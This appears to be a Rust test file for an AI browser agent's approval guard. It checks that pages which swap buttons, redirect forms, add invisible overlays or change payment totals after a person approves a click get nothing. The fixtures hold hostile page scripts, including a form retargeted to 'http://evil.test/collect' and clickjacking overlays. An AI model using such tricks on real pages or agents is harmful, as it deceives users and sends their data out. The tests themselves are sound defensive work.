//! Another thing stands there when the input comes.

use aurore_agent::{CountingApprover, DenyAll, StepOutcome};
use aurore_policy::Decision;

use super::stage::{Stage, click, elsewhere};

const SEND: &str = "<button id=it style='top: 15px' onclick=\"log.push(this.textContent)\">Send</button>";

/// The run asks, the page does `trick`, the person says yes: nothing may reach the page.
fn withheld(trick: &str) -> (String, Stage) {
    let mut stage = Stage::with(&format!("{SEND}<script>whenAsked(() => {{ {trick} }});</script>"));
    let mut approver = stage.turncoat();
    let (reports, _) = stage.run("Press Send.", &[click(100, 30)], &mut approver);
    assert_eq!(approver.asked, 1);
    assert_eq!(reports[0].outcome, StepOutcome::Failed, "{reports:#?}");
    assert!(reports[0].approval.as_ref().unwrap().allowed);
    assert!(stage.log().is_empty(), "{trick}: {:?}", stage.log());
    (reports[0].result.clone(), stage)
}

#[test]
fn a_button_that_is_swapped_after_the_approval_is_not_pressed() {
    let (why, _) = withheld("it.textContent = 'Delete everything'");
    assert!(why.contains("Delete everything"), "{why}");
    let (why, _) = withheld(
        "const other = it.cloneNode(true); other.onclick = () => log.push('other'); it.replaceWith(other)",
    );
    assert!(why.contains("another element"), "{why}");
}

#[test]
fn a_form_that_is_sent_elsewhere_after_the_approval_is_not_sent() {
    let mut stage = Stage::with(
        "<form action=/here onsubmit='log.push(1)'><button style='top: 15px'>Send</button></form>
         <script>whenAsked(() => { document.forms[0].action = 'http://evil.test/collect' });</script>",
    );
    let mut approver = stage.turncoat();
    let (reports, _) = stage.run("Press Send.", &[click(100, 30)], &mut approver);
    assert_eq!(reports[0].outcome, StepOutcome::Failed, "{reports:#?}");
    assert!(
        reports[0].result.contains("form's address"),
        "{}",
        reports[0].result
    );
}

#[test]
fn an_overlay_that_comes_between_approval_and_click_gets_nothing() {
    let (why, _) = withheld(
        "document.body.insertAdjacentHTML('beforeend', '<div style=\"position:fixed;inset:0;z-index:9\" onclick=\"log.push(1)\" onmousedown=\"log.push(2)\" onpointerdown=\"log.push(3)\"></div>')",
    );
    assert!(why.contains("changed after the approval"), "{why}");
}

#[test]
fn an_invisible_overlay_is_what_is_judged_and_asked_about() {
    // The person sees a harmless button; what a click would operate lies over it and cannot be seen.
    let mut stage = Stage::with(
        "<button style='top: 15px'>Show weather</button>
         <button style='top: 15px; opacity: 0' onclick=\"log.push('subscribed')\">Weather</button>",
    );
    let (reports, _) = stage.run("Show the weather.", &[click(100, 30)], &mut DenyAll);
    let verdict = reports[0].verdict.as_ref().unwrap();
    assert_eq!(verdict.rule.name, "target-uncertain", "{reports:#?}");
    assert_eq!(reports[0].outcome, StepOutcome::Refused);
    assert!(stage.log().is_empty());

    // A visible label under an overlay with another name is judged by the overlay.
    let mut stage = Stage::with(
        "<button style='top: 15px'>Show weather</button>
         <div role=button style='position: absolute; top: 0; left: 0; width: 300px; height: 60px' aria-label='Pay now' onclick=\"log.push('paid')\"></div>",
    );
    let mut approver = CountingApprover::no();
    let (reports, _) = stage.run("Show the weather.", &[click(100, 30)], &mut approver);
    assert_eq!(reports[0].verdict.as_ref().unwrap().decision, Decision::Ask);
    assert!(reports[0].words.contains("Pay now"), "{}", reports[0].words);
    assert!(stage.log().is_empty());
}

#[test]
fn a_redirect_between_approval_and_click_gets_nothing() {
    let mut stage = Stage::with(&format!(
        "{SEND}<script>fetch('/asked' + location.search).then(() => {{ location = '{}/landed' + location.search }});</script>",
        elsewhere()
    ));
    // The yes comes when the other page stands, with a button of the same name at the same place.
    let mut approver = stage.turncoat();
    let (reports, _) = stage.run("Press Send.", &[click(100, 30)], &mut approver);
    assert_eq!(reports[0].outcome, StepOutcome::Failed, "{reports:#?}");
    assert!(
        reports[0].result.contains("http://localhost"),
        "{}",
        reports[0].result
    );
    assert!(stage.log().is_empty());
}

#[test]
fn a_total_that_changes_elsewhere_on_the_page_asks_again() {
    let order = |change: &str| {
        Stage::with(&format!(
            "<p>Tea 38.40 €</p><p>Total <b id=total>45.30 €</b></p><p>USD 12</p>
             <button style='top: 215px' onclick=\"log.push(total.textContent); textContent = 'Paid'\">Pay now</button><script>{change}</script>"
        ))
    };
    // While the question stands; also to an amount that stood elsewhere on the page before.
    for total in ["95.30 €", "38.40 €"] {
        let mut stage = order(&format!("whenAsked(() => {{ total.textContent = '{total}'; }});"));
        let mut approver = stage.turncoat();
        let (reports, _) = stage.run("Pay for the tea.", &[click(100, 230)], &mut approver);
        assert_eq!(reports[0].outcome, StepOutcome::Failed, "{reports:#?}");
        assert!(reports[0].result.contains(total), "{}", reports[0].result);
        assert!(stage.log().is_empty());
    }
    // When the pointer comes: too late for anything but the guard in the page.
    let mut stage = order("addEventListener('pointermove', () => { total.textContent = '99 €' });");
    let (reports, _) = stage.run(
        "Pay for the tea.",
        &[click(100, 230)],
        &mut CountingApprover::yes(),
    );
    assert_eq!(reports[0].outcome, StepOutcome::Failed, "{reports:#?}");
    assert!(reports[0].result.contains("99 €"), "{}", reports[0].result);
    assert!(stage.log().is_empty());
    // Nothing changes, or what changes is no amount: it is pressed. The question shows the amounts.
    let mut stage = order("whenAsked(() => { document.title = 'Still 3 left'; });");
    let mut approver = stage.turncoat();
    let (reports, _) = stage.run("Pay for the tea.", &[click(100, 230)], &mut approver);
    assert_eq!(reports[0].outcome, StepOutcome::Done, "{reports:#?}");
    assert_eq!(
        reports[0].target.as_ref().unwrap().amounts,
        ["38.40 €", "45.30 €", "USD 12"]
    );
    assert_eq!(stage.log(), ["45.30 €"]);
    // What nobody is asked about is held to no amounts: prices that move stop no harmless press.
    let mut stage = Stage::with(
        "<p id=price>1 €</p><button style='top: 115px' onclick=\"log.push('more')\">Show more</button>
         <script>addEventListener('pointermove', () => { price.textContent = '2 €' });</script>",
    );
    let (reports, _) = stage.run("Look.", &[click(100, 130)], &mut DenyAll);
    assert_eq!(reports[0].outcome, StepOutcome::Done, "{reports:#?}");
}
